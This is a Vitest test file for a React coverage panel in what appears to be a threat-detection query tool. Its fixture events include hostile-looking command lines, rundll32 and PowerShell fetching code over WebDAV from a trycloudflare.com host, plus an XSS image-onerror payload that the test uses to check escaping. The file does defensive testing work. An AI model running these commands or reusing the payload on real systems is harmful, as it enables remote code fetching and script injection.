import { describe, expect, it } from 'vitest';
import { createElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import type { FunnelStep, NearMiss } from '../../engine/types';
import type { ClauseInfo } from '../../xql/plan';
import { CoveragePanel } from './CoveragePanel';

function clause(index: number, text: string, fields: string[]): ClauseInfo {
  return { index, stage: 2, text, pos: { line: 1, column: 1, start: 0, end: text.length }, fields };
}

const clauses = [
  clause(0, 'event_type = ENUM.PROCESS', ['event_type']),
  clause(1, 'agent_os_type = ENUM.AGENT_OS_WINDOWS', ['agent_os_type']),
  clause(2, '( action_process_image_name = "cmd.exe" or action_process_image_name = "powershell.exe" )', ['action_process_image_name']),
];

const funnel: FunnelStep[] = [
  { clause: clauses[0], passed: 900, cumulative: 900, skipped: false },
  { clause: clauses[1], passed: 0, cumulative: 0, skipped: true },
  { clause: clauses[2], passed: 120, cumulative: 100, skipped: false },
];

function nm(i: number, image: string, command: string): NearMiss {
  return {
    key: `0:${i}`,
    eventId: `e${i}`,
    row: { agent_hostname: 'WS-01', action_process_image_name: image, action_process_image_command_line: command },
    source: { file: 'x.csv', row: i, line: i + 1 },
    failedClause: 2,
    explanation: { clauses: [] },
  };
}

describe('CoveragePanel', () => {
  it('says so when coverage was not computed', () => {
    const html = renderToStaticMarkup(createElement(CoveragePanel, { funnel: null, nearMisses: [], clauses }));
    expect(html).toContain('data-testid="coverage-panel"');
    expect(html).toContain('Coverage not computed for this run (fast path)');
  });

  it('renders the funnel with skipped clauses and near misses grouped with a takeaway', () => {
    const nearMisses = [
      nm(1, 'rundll32.exe', 'rundll32.exe C:\\WINDOWS\\system32\\davclnt.dll,DavSetCookie a.trycloudflare.com@SSL https://a.trycloudflare.com/'),
      nm(2, 'pwsh.exe', 'pwsh -c "<img src=x onerror=alert(1)>" \\\\a.trycloudflare.com@SSL\\DavWWWRoot\\x.ps1'),
    ];
    const html = renderToStaticMarkup(
      createElement(CoveragePanel, { funnel, nearMisses, clauses, totalRows: 1000, onSelectNearMiss: () => undefined }),
    );
    expect(html.match(/data-testid="funnel-step"/gu)).toHaveLength(3);
    expect(html).toContain('skipped: column missing (agent_os_type)');
    expect(html).toContain('(of 1,000 rows)');
    expect(html.match(/data-testid="near-miss"/gu)).toHaveLength(2);
    expect(html).toContain('2 events fail only: ( action_process_image_name = &quot;cmd.exe&quot;');
    expect(html).toContain('consider adding pwsh.exe, rundll32.exe');
    // Attacker text is escaped, never markup.
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});
